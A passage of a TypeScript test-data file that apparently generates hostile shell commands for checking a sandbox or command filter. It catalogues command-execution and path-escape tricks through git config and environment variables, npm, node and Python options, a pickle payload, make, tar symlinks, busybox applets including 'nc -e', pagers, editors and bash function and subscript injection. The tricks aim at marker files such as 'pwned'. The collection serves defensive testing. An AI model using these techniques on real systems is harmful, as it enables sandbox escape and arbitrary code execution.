// Hostile lines by rarely used means: new features of git, package managers, archives, editors, applets, libraries of the shell,
// pipes and sockets as files, and calls of the kernel.
import type { Targets } from './hostile-lines.ts';

type Make = (targets: Targets) => string;

/** A call of the kernel by its number, with arguments in Python. */
const call = (text: string): string =>
  `python3 -c 'import ctypes as c, os, mmap, struct; L = c.CDLL(None, use_errno=True); P = c.c_void_p; print(${text})'`;

/** Subcommands, variables and settings of git that run programs, or write elsewhere. */
const GIT: readonly Make[] = [
  ({ out }) => `git hook run --to-stdin=${out}/secret pre-commit; git hook run post-checkout -- ${out}`,
  ({ out }) => `git -c maintenance.repo=${out} for-each-repo --config=maintenance.repo init`,
  ({ out }) =>
    `git -c maintenance.strategy=none maintenance run --task=gc; git maintenance start --scheduler=crontab; git -C ${out} init -q r2`,
  ({ out }) => `git fsmonitor--daemon start; git -c fsmonitor.socketDir=${out} fsmonitor--daemon run`,
  ({ out }) => `git worktree add ${out}/wt; git worktree add --orphan -b x ../out/wt2`,
  ({ out }) => `git -c tar.x.command='tee ${out}/target' archive --format=x HEAD`,
  ({ out }) => `git -c tar.tar.gz.command='touch ${out}/pwned' archive -o a.tar.gz HEAD`,
  ({ out }) =>
    `git credential-store --file=${out}/target store <<< $'protocol=https\\nhost=x\\nusername=a\\npassword=b\\n'`,
  ({ out }) =>
    `git -c credential.helper='!touch ${out}/pwned' credential fill <<< $'protocol=https\\nhost=x\\n'`,
  ({ out }) =>
    `git credential-cache --socket=${out}/s --timeout=1 store < /dev/null; git credential-cache--daemon ${out}/s3`,
  ({ out }) => `git remote-ext x 'sh -c touch% ${out}/pwned'; git ls-remote 'ext::touch ${out}/pwned'`,
  ({ port }) =>
    `git remote-http x http://127.0.0.1:${port}/ <<< $'list\\n'; git http-fetch -a 0 http://127.0.0.1:${port}/`,
  ({ port }) =>
    `git daemon --inetd --base-path=/ < /dev/null; git imap-send < src/a.txt; git http-push http://127.0.0.1:${port}/ x`,
  ({ out }) => `git shell -c "git-upload-pack '${out}'"; git upload-archive ${out}; git receive-pack ${out}`,
  ({ out }) => `git bugreport -o ${out}; git diagnose -o ${out}; git bundle create ${out}/b --all`,
  ({ out }) => `git column --command=x --mode=always < ${out}/secret; git stripspace < ${out}/secret`,
  ({ out }) =>
    `git blame --contents=${out}/secret HEAD -- src/a.txt; git check-attr --stdin -a < ${out}/secret`,
  ({ out }) =>
    `git merge-file -p ${out}/secret src/a.txt src/a.txt; git merge-file ${out}/target src/a.txt package.json`,
  ({ out }) =>
    `git interpret-trailers --in-place --trailer a=b ${out}/target; git interpret-trailers ${out}/secret`,
  ({ out }) =>
    `git apply --unsafe-paths <<E\n--- a${out}/target\n+++ b${out}/target\n@@ -1 +1 @@\n-original\n+x\nE`,
  ({ out }) =>
    `git apply --unsafe-paths --directory=${out} <<E\n--- /dev/null\n+++ b/pwned\n@@ -0,0 +1 @@\n+x\nE`,
  ({ out }) =>
    `git rev-parse --parseopt -- ${out} < ${out}/secret; git mailinfo ${out}/target ${out}/pwned < src/a.txt`,
  ({ out }) =>
    `git mailsplit -o${out} src/a.txt; git unpack-file HEAD; git archive HEAD --prefix=${out}/ | tar -xP`,
  ({ out }) =>
    `git hash-object -t blob --literally -w ${out}/secret; git hash-object --path=x --stdin < ${out}/secret`,
  ({ out }) => `git index-pack -o ${out}/i --stdin < /dev/null; git pack-objects ${out}/p < /dev/null`,
  ({ out }) =>
    `git show-index < ${out}/secret; git get-tar-commit-id < ${out}/secret; git patch-id < ${out}/secret`,
  ({ out }) =>
    `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch ${out}/pwned' git status`,
  ({ out }) => `GIT_CONFIG_PARAMETERS="'core.fsmonitor=touch ${out}/pwned'" git status`,
  ({ out }) => `GIT_CONFIG_GLOBAL=<(printf '[core]\\nfsmonitor = touch ${out}/pwned\\n') git status`,
  ({ out }) => `GIT_CONFIG_SYSTEM=/dev/stdin git status <<< $'[core]\\nfsmonitor = touch ${out}/pwned'`,
  ({ out }) =>
    `GIT_TRACE2_EVENT=${out}/pwned git status; GIT_TRACE2=${out}/target GIT_TRACE2_PERF=${out}/p git log`,
  ({ out }) =>
    `GIT_TRACE2_EVENT=af_unix:stream:${out}/socket git status; GIT_TRACE2=af_unix:dgram:${out}/socket git log`,
  ({ out }) =>
    `GIT_TRACE_PACKET=${out}/p GIT_TRACE_SETUP=${out}/target GIT_TRACE_CURL=${out}/c git ls-remote .`,
  ({ out }) =>
    `GIT_TEMPLATE_DIR=${out} git init n1; git init --template=${out} n2; git clone --template=${out} . n3`,
  ({ out }) =>
    `GIT_ALTERNATE_OBJECT_DIRECTORIES=${out} GIT_OBJECT_DIRECTORY=${out}/o git hash-object -w src/a.txt`,
  ({ out }) => `GIT_INDEX_FILE=${out}/i git add src; GIT_INDEX_FILE=${out}/target git read-tree HEAD`,
  ({ out }) =>
    `GIT_EXEC_PATH=${out} git x; git --exec-path=${out} status; GIT_PROXY_COMMAND='touch ${out}/pwned' git ls-remote git://x/y`,
  ({ out }) =>
    `GIT_ASKPASS='touch ${out}/pwned' SSH_ASKPASS='touch ${out}/pwned' git ls-remote http://u@127.0.0.1:9/`,
  ({ out }) =>
    `GIT_EDITOR='touch ${out}/pwned' git commit --allow-empty; GIT_SEQUENCE_EDITOR='touch ${out}/pwned' git rebase -i --root`,
  ({ out }) =>
    `GIT_EDITOR='touch ${out}/pwned' git notes edit; GIT_EDITOR='touch ${out}/pwned' git branch --edit-description`,
  ({ out }) =>
    `EDITOR='touch ${out}/pwned' git config -e; EDITOR='touch ${out}/pwned' git tag -a x; EDITOR=touch git commit -t ${out}/pwned`,
  ({ out }) => `git -c core.worktree=${out} checkout -f HEAD -- .; git -c core.worktree=${out} clean -fdx`,
  ({ out }) =>
    `git -c core.attributesFile=<(echo '* diff=x') -c diff.x.textconv='touch ${out}/pwned;' diff --no-index src/a.txt package.json`,
  ({ out }) => `git -c diff.external='touch ${out}/pwned' diff --ext-diff --no-index src/a.txt package.json`,
  ({ out }) =>
    `git -c help.autocorrect=immediate -c alias.status2='!touch ${out}/pwned' status22; git -c 'alias.y=!f() { touch ${out}/pwned; }; f' y`,
  ({ out }) =>
    `git -c gpg.ssh.program=touch -c gpg.format=ssh -c user.signingkey=${out}/pwned commit -S --allow-empty -m x`,
  ({ out }) =>
    `git -c gc.recentObjectsHook='touch ${out}/pwned' gc --prune=now; git -c gc.pruneExpire=now prune`,
  ({ out }) =>
    `git -c init.templateDir=${out} init n4; git -c core.sshCommand='touch ${out}/pwned' fetch ssh://x/y`,
  ({ out }) =>
    `git submodule add ext::'touch ${out}/pwned' m; git -c protocol.ext.allow=always clone 'ext::touch ${out}/pwned' m2`,
  ({ out }) =>
    `git fetch --negotiation-tip=x --upload-pack 'touch ${out}/pwned;git-upload-pack' . ; git pull --upload-pack='touch ${out}/pwned' .`,
  ({ out }) =>
    `git log --pretty='%x00%C(auto)' --output ${out}/target; git shortlog --output=${out}/target HEAD; git show --output ${out}/target`,
  ({ out }) =>
    `git diff --output=../out/target --no-index src/a.txt package.json; git diff-files --output=${out}/target; git diff-tree --output=${out}/target HEAD`,
  ({ out }) =>
    `git rebase --exec 'touch ${out}/pwned' HEAD; git bisect start; git bisect run touch ${out}/pwned; git bisect visualize --output=${out}/target`,
  ({ out }) =>
    `git sparse-checkout set --cone ../out; git ls-files --with-tree=HEAD ${out}; git ls-files -o ${out}`,
  ({ out }) =>
    `git p4 clone //x@all ${out}/p4; git svn init file://${out} ${out}/svn; git cvsimport -C ${out}/cvs x`,
  ({ out }) =>
    `gitk --argscmd='touch ${out}/pwned'; git gui; git citool; git web--browse -c browser.x.cmd='touch ${out}/pwned' x`,
  ({ out }) =>
    `scalar clone . ${out}/sc; scalar register ${out}; scalar reconfigure -a; git multi-pack-index --object-dir=${out} write`,
  ({ out }) =>
    `hg --config alias.x='!touch ${out}/pwned' x; svn co file://${out} ${out}/co; bzr init ${out}/bz; jj git init ${out}/jj; fossil init ${out}/f`,
];

/** Package managers and build tools. */
const BUILDS: readonly Make[] = [
  ({ out }) =>
    `npm run-script --if-present x --scripts-prepend-node-path; npm --globalconfig ${out}/target config set -g x y`,
  ({ out }) =>
    `npm set-script x 'touch ${out}/pwned'; npm --node-options='--require ${out}/secret' -v; npm root -g --prefix ${out}`,
  ({ out }) =>
    `npm install --prefix ${out} src; npm link --prefix ${out}; npm rebuild --foreground-scripts; npm install file:${out}`,
  ({ out }) =>
    `npm_config_cache=${out}/c npm view x; npm_config_logs_dir=${out} npm -v; npm_config_tmp=${out} npm pack src`,
  ({ out }) =>
    `NODE_OPTIONS='--import data:text/javascript,import(%22node:fs%22).then(f=>f.writeFileSync(%22${out}/pwned%22,%22%22))' npm -v`,
  ({ out }) =>
    `NODE_REPL_EXTERNAL_MODULE=${out}/secret node; NODE_REPL_HISTORY=${out}/target node -i <<< 1; NODE_V8_COVERAGE=${out} node -e 1`,
  ({ out }) =>
    `NODE_COMPILE_CACHE=${out} node -e 'require("module").enableCompileCache()'; NODE_EXTRA_CA_CERTS=${out}/secret node -e 1`,
  ({ out }) =>
    `node --watch-path=${out} -e 1 & sleep 0.1; node --run x; node --report-on-fatalerror --report-directory=${out} -e 'process.report.writeReport()'`,
  ({ out }) =>
    `node --heap-prof --heap-prof-dir=${out} -e 1; node --trace-event-categories v8 --trace-event-file-pattern=${out}/t -e 1; node --prof --logfile=${out}/v8 -e 1`,
  ({ out }) =>
    `node --diagnostic-dir=${out} --heapsnapshot-signal=SIGUSR2 -e 'process.kill(process.pid, "SIGUSR2")'; node --redirect-warnings=${out}/w -e 'process.emitWarning("x")'`,
  ({ out }) =>
    `node -e 'new (require("worker_threads").Worker)("require(\\"fs\\").writeFileSync(\\"${out}/pwned\\",\\"\\")", { eval: true })'`,
  ({ out }) =>
    `node -e 'process.binding("fs")' -e 'process.chdir("${out}"); fs.renameSync("target", "moved")'; node -e 'fs.cpSync("src", "${out}/src2", { recursive: true })'`,
  ({ out }) =>
    `node -e 'process.dlopen({ exports: {} }, "${out}/x.node")'; node -e 'new (require("sqlite").DatabaseSync)("${out}/db")'; node -e 'new (require("node:sqlite").DatabaseSync)("${out}/pwned").exec("create table t(x)")'`,
  ({ out }) =>
    `pip install --target ${out} src; pip --log ${out}/target list; PIP_LOG=${out}/target pip list; pip cache dir --cache-dir ${out}`,
  ({ out }) =>
    `python3 -m pip download -d ${out} x; python3 -m site --user-site; PYTHONUSERBASE=${out} python3 -m pip install --user src`,
  ({ out }) =>
    `PYTHONPATH=${out} python3 -c 'import secret'; PYTHONHOME=${out} python3 -c 1; PYTHONINSPECT=1 python3 -c 1 <<< 'open("${out}/pwned","w")'`,
  ({ out }) =>
    `PYTHONBREAKPOINT=os.system python3 -c 'breakpoint("touch ${out}/pwned")'; PYTHONWARNINGS='ignore::x.${out}' python3 -c 1`,
  ({ out }) =>
    `python3 -m cgitb; python3 -m turtledemo; python3 -m idlelib ${out}/secret; python3 -m lib2to3 -w -n -o ${out} src; python3 -m mailcap`,
  ({ out }) =>
    `python3 -m distutils.spawn; python3 -m pickletools ${out}/secret -o ${out}/target; python3 -m uu ${out}/secret ${out}/target; python3 -m trace --listfuncs -f ${out}/target --trackcalls src/a.txt`,
  ({ out }) =>
    `python3 -c 'import pickle; pickle.loads(b"cos\\nsystem\\n(S\\"touch ${out}/pwned\\"\\ntR.")'; python3 -c 'import marshal, types; exec(compile("open(\\"${out}/pwned\\",\\"w\\")", "x", "exec"))'`,
  ({ out }) =>
    `python3 -c 'import logging.handlers as h; h.SocketHandler("${out}/socket", None).createSocket()'; python3 -c 'import dbm; dbm.open("${out}/pwned", "c")'; python3 -c 'import shelve; shelve.open("${out}/sh")'`,
  ({ out }) =>
    `python3 -c 'import os; os.posix_spawn("/usr/bin/touch", ["touch", "${out}/pwned"], {})'; python3 -c 'import pty; pty.spawn(["touch", "${out}/pwned"])'`,
  ({ out }) =>
    `cargo --config 'build.rustc-wrapper="${out}/x"' build; cargo init ${out}/c; RUSTC_WRAPPER=touch cargo build --target-dir ${out}; rustc -o ${out}/r - <<< 'fn main() {}'`,
  ({ out }) =>
    `go run - <<< 'package main'; GOFLAGS=-toolexec=touch go build -o ${out}/g; go env -w GOPATH=${out}; GOCACHE=${out} go vet; go generate; go tool -n x`,
  ({ out }) =>
    `gem install -i ${out} x; RUBYOPT=-r${out}/x ruby -e 1; ruby -e 'File.write("${out}/pwned", "")'; bundle config set --global path ${out}; irb <<< 'system("touch ${out}/pwned")'`,
  ({ out }) =>
    `php -r 'file_put_contents("${out}/pwned", "");'; lua -e 'os.execute("touch ${out}/pwned")'; tclsh <<< 'exec touch ${out}/pwned'; guile -c '(system "touch ${out}/pwned")'; R -e 'file.create("${out}/pwned")'`,
  ({ out }) =>
    `java -XX:OnError='touch ${out}/pwned' -version; JAVA_TOOL_OPTIONS='-Xlog:all:${out}/target' java -version; jshell <<< 'new java.io.FileWriter("${out}/pwned")'; ant -logfile ${out}/target`,
  ({ out }) =>
    `cmake -P <(echo 'file(WRITE ${out}/pwned x)'); cmake -E touch ${out}/pwned; cmake -E copy src/a.txt ${out}/target; ninja -f <(printf 'rule r\\n command = touch ${out}/pwned\\nbuild x: r\\n')`,
  ({ out }) =>
    `make -E 'all:; touch ${out}/pwned'; MAKEFLAGS='--eval=$(shell touch\\ ${out}/pwned)' make -v; MAKEFILES=<(printf 'x:=$(shell touch ${out}/pwned)\\n') make -n; make SHELL=/bin/sh -f- <<< 'all:;@touch ${out}/pwned'`,
  ({ out }) =>
    `make -f- <<< $'$(file >${out}/pwned,x)\\nall:;'; make -f- <<< $'include ${out}/secret'; make -f- <<< $'load ${out}/x.so'; make -rpn -f /dev/null -o ${out}`,
  ({ out }) =>
    `m4 -D'x=syscmd(\`touch ${out}/pwned'"'"')' <<< x; m4 -F ${out}/pwned /dev/null; m4 --debugfile=${out}/target /dev/null; autom4te -o ${out}/target -l m4sugar /dev/null; bison -o ${out}/b /dev/null; flex -o ${out}/f /dev/null`,
  ({ out }) =>
    `apt-get -o Dir::Cache=${out} -o Dir::State=${out} clean; apt-get -o DPkg::Post-Invoke::='touch ${out}/pwned' clean; apt-config dump --format=%v -o x=${out}; dpkg-query --admindir=${out} -W; dpkg --log=${out}/target -l`,
  ({ out }) =>
    `dpkg-deb -x <(cat /dev/null) ${out}/x; dpkg-split -o ${out}/x src/a.txt; update-alternatives --altdir ${out} --admindir ${out} --list x; apt-mark showauto; debconf-set-selections ${out}/secret; dpkg-divert --admindir ${out} --add ${out}/target`,
  ({ out }) =>
    `perl -MCPAN -e 'install x'; perl -I${out} -Msecret -e 1; PERL5OPT=-d perl -e 1; PERL5DB='BEGIN { open F, ">${out}/pwned" }' perl -d -e 1; perl -i.bak -pe 1 ${out}/target; perldoc -d${out}/pwned perl; prove -e 'touch ${out}/pwned' src`,
];

/** Archives, compression and copying. */
const ARCHIVES: readonly Make[] = [
  ({ out }) =>
    `tar -cPf - src | tar -xPf - --transform='s,^,${out}/,'; tar -cf - src | tar -xf - -C ${out} --no-same-owner; tar --create --file=${out}/t.tar src`,
  () =>
    `tar -xf <(python3 -c 'import tarfile, io, sys; t = tarfile.open(fileobj=sys.stdout.buffer, mode="w|"); i = tarfile.TarInfo("../out/pwned"); t.addfile(i, io.BytesIO())') -P`,
  ({ out }) =>
    `python3 -c 'import tarfile, io; t = tarfile.open("k.tar", "w"); i = tarfile.TarInfo("l"); i.type = b"2"; i.linkname = "${out}"; t.addfile(i); t.addfile(tarfile.TarInfo("l/pwned"))'; tar -xPf k.tar; cd /tmp && tar -xPf k.tar`,
  ({ out }) =>
    `tar -cf /dev/null --use-compress-program='sh -c "touch ${out}/pwned"' src; tar --zstd -I 'touch ${out}/pwned' -cf x src; tar -cf x --index-file=${out}/target -v src; tar -cf x.tar --remove-files ${out}/target`,
  ({ out }) =>
    `tar -tf /dev/null --checkpoint=1 --checkpoint-action='exec=touch ${out}/pwned'; tar -rf ${out}/t2.tar src; tar -A -f ${out}/t3.tar x; tar --delete -f ${out}/target x; tar -df ${out}/secret`,
  ({ out }) =>
    `find src | cpio -o -F ${out}/c.cpio; find src | cpio -pdm ${out}; cpio -i --rsh-command='touch ${out}/pwned' -F h:x; cpio -o -O ${out}/target < /dev/null; pax -w -f ${out}/p src; pax -rw src ${out}`,
  ({ out }) =>
    `zip -r ${out}/z src; zip --out ${out}/z2.zip z src; zip -b ${out} z src; unzip -d ${out} x.zip; zip -m z ${out}/target; zipnote -w ${out}/target; zip -@ z <<< ${out}/secret; unzip -p <(cat ${out}/secret)`,
  ({ out }) =>
    `gzip -f ${out}/target; gzip -c src/a.txt > ${out}/target; gzip -dkfc < ${out}/secret; bzip2 -k ${out}/target; xz -k ${out}/target; zstd -o ${out}/z src/a.txt; zstd --rm ${out}/target; lz4 src/a.txt ${out}/l; zcat -f ${out}/secret; xzgrep . ${out}/secret`,
  ({ out }) =>
    `7z a ${out}/7 src; 7z x -o${out} x; 7z a -sdel x ${out}/target; ar qc ${out}/a.a src/a.txt; ar x --output ${out} x.a; ranlib ${out}/target; bsdtar -cf ${out}/b src; unsquashfs -d ${out} x; mksquashfs src ${out}/q`,
  ({ out }) =>
    `rsync -a --delete src/ ${out}/home/; rsync -a --backup-dir=${out} src/ d/; rsync --temp-dir=${out} -a src/ d; rsync -a --partial-dir=${out} --remove-source-files ${out}/ d/; rsync -a --link-dest=${out} ${out}/ d2/; cat d2/secret`,
  ({ out }) =>
    `cp --parents src/a.txt ${out}; cp -b --suffix=.x src/a.txt ${out}/target; cp --attributes-only --preserve=mode src/a.txt ${out}/target; cp -sr "$PWD/src" ${out}/ls; cp -lr src ${out}/lh; cp --sparse=always src/a.txt ${out}/target`,
  ({ out }) =>
    `install -D src/a.txt ${out}/d/x; install -d ${out}/dd; install -b -m 777 src/a.txt ${out}/target; install --strip-program=touch -s /bin/true ${out}/pwned; mv -b src/a.txt ${out}/target; mv --exchange src/a.txt ${out}/target; mv -u ${out}/target m`,
  ({ out }) =>
    `dd if=src/a.txt of=${out}/target conv=notrunc oflag=append; dd if=${out}/secret status=none; dd of=/dev/fd/1 if=${out}/secret; ddrescue src/a.txt ${out}/target; split -b1 src/a.txt ${out}/s; csplit -f ${out}/c src/a.txt 1; shred -u ${out}/target; truncate --size=0 ../out/target; fallocate -l 9 ${out}/target; fallocate -p -o 0 -l 4 ${out}/target`,
  ({ out }) =>
    `sponge ${out}/target < src/a.txt; tee -p -a ${out}/target <<< x; pv -N x ${out}/secret; buffer -o ${out}/target; mbuffer -o ${out}/target; rename s/target/moved/ ${out}/target; mmv ${out}/target ${out}/m; patch ${out}/target <<< x; patch -o ${out}/target src/a.txt /dev/null; patch -r ${out}/rej -d ${out}`,
];

/** Editors, pagers, terminals and their libraries. */
const EDITORS: readonly Make[] = [
  ({ out }) =>
    `ex -s -c 'w! ${out}/target' -c q src/a.txt; ex -s -c 'r ${out}/secret' -c '%p' -c q; ed ${out}/target <<< $'a\\nx\\n.\\nw\\nq'; ed -s <<< $'e !cat ${out}/secret\\n,p'; red <<< $'w ${out}/pwned'`,
  ({ out }) =>
    `VIMINIT='silent !touch ${out}/pwned' vim -es -c q; EXINIT='!touch ${out}/pwned' ex -s -c q; vim -es --cmd 'call writefile([], "${out}/pwned")' -c q; vim -es -S <(echo 'call system("touch ${out}/pwned")') -c q; vim -w ${out}/target -es -c q`,
  ({ out }) =>
    `vim -es -c 'set modeline' -c 'e src/m' -c q; vimdiff -es ${out}/secret src/a.txt -c q; vim -es -u NONE -c 'set undofile undodir=${out}' -c 'w' -c q src/a.txt; vim -es -u NONE -c 'set backupdir=${out} backup' -c 'w!' -c q src/a.txt; vim -es --startuptime ${out}/t -c q`,
  ({ out }) =>
    `emacs --batch --eval '(write-region "" nil "${out}/pwned")'; emacs --batch -l ${out}/secret; nano -t -C ${out} src/a.txt < /dev/null; nano --backup --backupdir=${out} src/a.txt < /dev/null; joe -nobackups ${out}/target; mcedit ${out}/target; micro -config-dir ${out} x; hx --log ${out}/l x`,
  ({ out }) =>
    `less -K -f ${out}/secret; LESSOPEN='touch ${out}/pwned %s' less src/a.txt; LESSHISTFILE=${out}/target less src/a.txt; LESS='-O${out}/pwned' less -F src/a.txt; LESSKEY=${out}/secret lesskey -o ${out}/lk; most ${out}/secret; more ${out}/secret; pg ${out}/secret`,
  ({ out }) =>
    `MANOPT='-P touch' man ls; MANROFFOPT=-U man -Tutf8 ls; MANPATH=${out} man secret; man -C ${out}/secret ls; catman -C ${out}/secret; apropos -s 1 -C ${out}/secret x; info --output=${out}/target --subnodes dir; TEXMF=${out} tex '\\openout0=${out}/pwned\\immediate\\write18{touch ${out}/pwned}\\end'`,
  ({ out }) =>
    `groff -mpic -S <<< '.open x ${out}/pwned'; groff -U <<< $'.PSPIC |touch ${out}/pwned'; soelim ${out}/secret; eqn -d xx ${out}/secret; pic -U <<< $'.PS\\nsh X touch ${out}/pwned X\\n.PE'; nroff <<< $'.so ${out}/secret'; troff <<< $'.mso ${out}/secret\\n.open s ${out}/pwned\\n.write s x'`,
  ({ out }) =>
    `TERMINFO=${out} tput cols; TERMINFO_DIRS=${out} TERM=secret clear; TERMCAP=${out}/secret tput x; infocmp -A ${out} secret; tic -o ${out} <(infocmp xterm); toe ${out}; INPUTRC=${out}/secret bash -i <<< x; reset; tset -s; stty -F ${out}/target; setterm --file ${out}/target --dump; script ${out}/target -c true; script -T ${out}/t -B ${out}/b -c true`,
  ({ out }) =>
    `screen -dmS x touch ${out}/pwned; SCREENDIR=${out} screen -ls; tmux -S ${out}/tm new -d 'touch ${out}/pwned'; tmux -f ${out}/secret start; dtach -n ${out}/dt touch ${out}/pwned; expect -c 'spawn touch ${out}/pwned; expect eof'; unbuffer touch ${out}/pwned; rlwrap -H ${out}/h cat; dialog --stdout --tailbox ${out}/secret 9 9; whiptail --textbox ${out}/secret 9 9`,
  ({ out }) =>
    `psql -c '\\! touch ${out}/pwned'; sqlite3 x '.output ${out}/pwned' '.once |touch ${out}/pwned' '.import ${out}/secret t' '.backup ${out}/db' 'select readfile("${out}/secret"), writefile("${out}/pwned", 1)' '.load ${out}/x'; sqlite3 -init ${out}/secret x; mysql -e 'system touch ${out}/pwned'; redis-cli -s ${out}/socket eval x 0; bc -l ${out}/secret < /dev/null; gnuplot -e 'system("touch ${out}/pwned")'; dc -f ${out}/secret; calc '!touch ${out}/pwned'; units -f ${out}/secret -H ${out}/h x; octave --eval 'system("touch ${out}/pwned")'`,
];

/** Applets of busybox and everyday programs under other names. */
const APPLETS: readonly Make[] =
  'touch pwned|rm -rf home|mv target moved|cp secret pwned|ln -s target pwned|mkdir pwned|chmod 777 target|chown 1 target|dd if=/dev/null of=target|tee target|sed -i s/o/0/ target|truncate -s 0 target|sh -c "touch pwned"|ash -c "touch pwned"|awk BEGIN{print>"pwned"}|vi -c w target|ed target|patch target|split target pwned|mktemp -p .|mkfifo pwned|gzip target|tar -cf pwned target|cpio -o -F pwned|uudecode -o pwned target|dos2unix target|find . -delete|xargs -a target touch pwned|httpd -f -h .|tftpd .|ftpput -P 1 x pwned target|wget -O pwned http://127.0.0.1:1/|nc -e touch pwned|telnetd -l touch|crond -c .|runsv .|svlogd .|logread -f|flock target touch pwned|script -c "touch pwned" pwned|setsid touch pwned|nsenter -t 1 touch pwned|unshare touch pwned|chroot . touch pwned|pivot_root . .|switch_root . touch|mount -o bind . .|losetup /dev/loop0 target|start-stop-daemon -S -x touch -- pwned|time touch pwned|timeout 1 touch pwned|nice touch pwned'
    .split('|')
    .map(
      (applet): Make =>
        ({ out }) =>
          `cd ${out} && busybox ${applet}; (cd ../out && busybox ${applet})`,
    );

/** Functions, variables and modes of the shell, wildcards, locales and braces. */
const SHELLS: readonly Make[] = [
  ({ out }) => `command_not_found_handle() { touch ${out}/pwned; }; no-such-program`,
  ({ out }) =>
    `command_not_found_handler() { touch ${out}/pwned; }; export -f command_not_found_handler; zsh -fc nope; bash -c nope`,
  ({ out }) =>
    `PROMPT_COMMAND=('touch ${out}/pwned'); bash --norc -i <<< :; PROMPT_COMMAND='touch ${out}/pwned' bash --norc -i <<< :`,
  ({ out }) =>
    `BASH_ENV=/dev/stdin bash -c : <<< 'touch ${out}/pwned'; BASH_ENV=src/env bash -c :; echo 'touch ${out}/pwned' > src/env; BASH_ENV=$PWD/src/env bash -c :`,
  ({ out }) =>
    `env 'BASH_FUNC_ls%%=() { touch ${out}/pwned; }' bash -c ls; env 'BASH_FUNC_cd%%=() { touch ${out}/pwned; }' bash -c 'cd src'; env 'x=() { :; }; touch ${out}/pwned' bash -c :`,
  ({ out }) =>
    `set -o vi; set -o emacs; bash --norc -i <<< $'bind -x \\'"\\\\C-a": touch ${out}/pwned\\'\\n\\001'; READLINE_LINE='touch ${out}/pwned' bash -i <<< '$READLINE_LINE'`,
  ({ out }) =>
    `HISTFILE=${out}/target HISTSIZE=9 bash -i <<< 'echo x; history -w'; HISTCMD=1; fc -s touch=x; history -r ${out}/secret; history; set -o history; echo 'touch ${out}/pwned'; fc -e : -1; !!`,
  ({ out }) =>
    `set -H; echo '!x'; history -s 'touch ${out}/pwned'; bash -i <<< $'touch ${out}/pwned\\n!!'; histchars=t!#; :`,
  ({ out }) =>
    `trap 'touch ${out}/pwned' DEBUG; ls; trap 'touch ${out}/pwned' ERR; false; set -E -T; f() { false; }; f`,
  ({ out }) => `CHILD_MAX=1; EXECIGNORE='*/ls'; FUNCNEST='x[$(touch ${out}/pwned)]'; f() { f; }; f`,
  ({ out }) =>
    `LC_ALL=$'\\n' ls; LANG=zh_CN.GBK bash -c $'echo \\xbf\\x27; touch ${out}/pwned #\\x27'; LC_CTYPE=ja_JP.SJIS bash -c $'ls \\x81"; touch ${out}/pwned #"'; LC_ALL=C.UTF-8 touch $'${out}/pw\\u006eed'`,
  ({ out }) =>
    `shopt -s nullglob dotglob failglob globasciiranges; rm -f ${out}/[[:lower:]]*; touch ${out}/pwne[d]; touch ${out}/pw{n..n}ed; cat ${out}/{secret,target}; cat ${out}/[!a-r]ecret; cat ${out}/*(sec)ret`,
  ({ out }) =>
    `: {a,b}$(touch ${out}/pwned){c,d}; echo {1..3}\`touch ${out}/pwned\`; x={${out}/pwned,}; touch {${out}/pwned,}; eval touch\\ {${out}/pwned,}; echo ~$(touch ${out}/pwned)`,
  ({ out }) =>
    `shopt -s cdable_vars; d=${out}; cd d; touch pwned; shopt -s autocd; bash -O autocd -i <<< ${out}; shopt -s extquote compat31; shopt -s sourcepath; PATH=${out} . secret`,
  ({ out }) =>
    `exec -a -bash bash -c 'touch ${out}/pwned'; exec {x}<> ${out}/pwned; exec 6> ${out}/pwned; echo >&6; exec > ${out}/pwned; exec 2>> ${out}/target; ls nope`,
  ({ out }) =>
    `coproc C (sh); echo 'touch ${out}/pwned' >&"\${C[1]}"; eval "exec \${C[1]}>&-"; wait; coproc { touch ${out}/pwned; }; wait $COPROC_PID`,
  ({ out }) =>
    `cat <(touch ${out}/pwned) >(touch ${out}/pwned) < /dev/null; diff <(cat ${out}/secret) <(cat way/secret); tee >(cat > ${out}/pwned) <<< x; sh <(echo touch ${out}/pwned); paste <(< link)`,
  ({ out }) =>
    `while read -u 7 x; do $x; done 7<<< 'touch ${out}/pwned'; read -e -i 'touch ${out}/pwned' x <<< ''; read -p "$(touch ${out}/pwned)" x < /dev/null; read -d '' -a a <<< 'touch ${out}/pwned'; "\${a[@]}"`,
  ({ out }) =>
    `printf '%b' 'touch\\x20${out}/pwned' | sh; printf -v 'a[$(touch ${out}/pwned)]' x; printf '%(x)T%n' -1 PATH; printf %q "$(touch ${out}/pwned)"; printf '%*d' 'a[$(touch ${out}/pwned)]' 1`,
  ({ out }) =>
    `test -v 'a[$(touch ${out}/pwned)]'; [[ -v 'a[$(touch ${out}/pwned)]' ]]; [[ 'a[$(touch ${out}/pwned)]' -eq 1 ]]; unset 'a[$(touch ${out}/pwned)]'; declare -n r='a[$(touch ${out}/pwned)]'; r=1; wait -n -p 'a[$(touch ${out}/pwned)]' $!`,
  ({ out }) =>
    `umask 'a[$(touch ${out}/pwned)]'; caller 'a[$(touch ${out}/pwned)]'; suspend -f; times; dirs -c; pushd -n ${out}; dirs -l; popd; touch pwned; disown -a; jobs -x touch ${out}/pwned %1; jobs -x touch ${out}/pwned; logout; enable -p; help -d x`,
  ({ out }) =>
    `dash -c 'touch ${out}/pwned'; ksh -c 'touch ${out}/pwned'; mksh -c 'touch ${out}/pwned'; zsh -fc '=touch ${out}/pwned; ls *(e:"touch ${out}/pwned":)'; fish -c 'touch ${out}/pwned'; tcsh -fc 'touch ${out}/pwned'; rc -c 'touch ${out}/pwned'; yash -c 'touch ${out}/pwned'; posh -c 'touch ${out}/pwned'; rbash -c 'touch ${out}/pwned'; es -c 'touch ${out}/pwned'`,
  ({ out }) =>
    `PATH=.:$PATH; cp /bin/touch cat; cat ${out}/pwned; PATH= /usr/bin/touch ${out}/pwned; hash -d touch; hash -t touch; type -a touch; PATH=src:/usr/bin env touch ${out}/pwned; env -i /usr/bin/touch ${out}/pwned; env -u PATH touch ${out}/pwned; env --argv0=ls touch ${out}/pwned; env --ignore-signal touch ${out}/pwned; env --block-signal=TERM touch ${out}/pwned`,
  ({ out }) =>
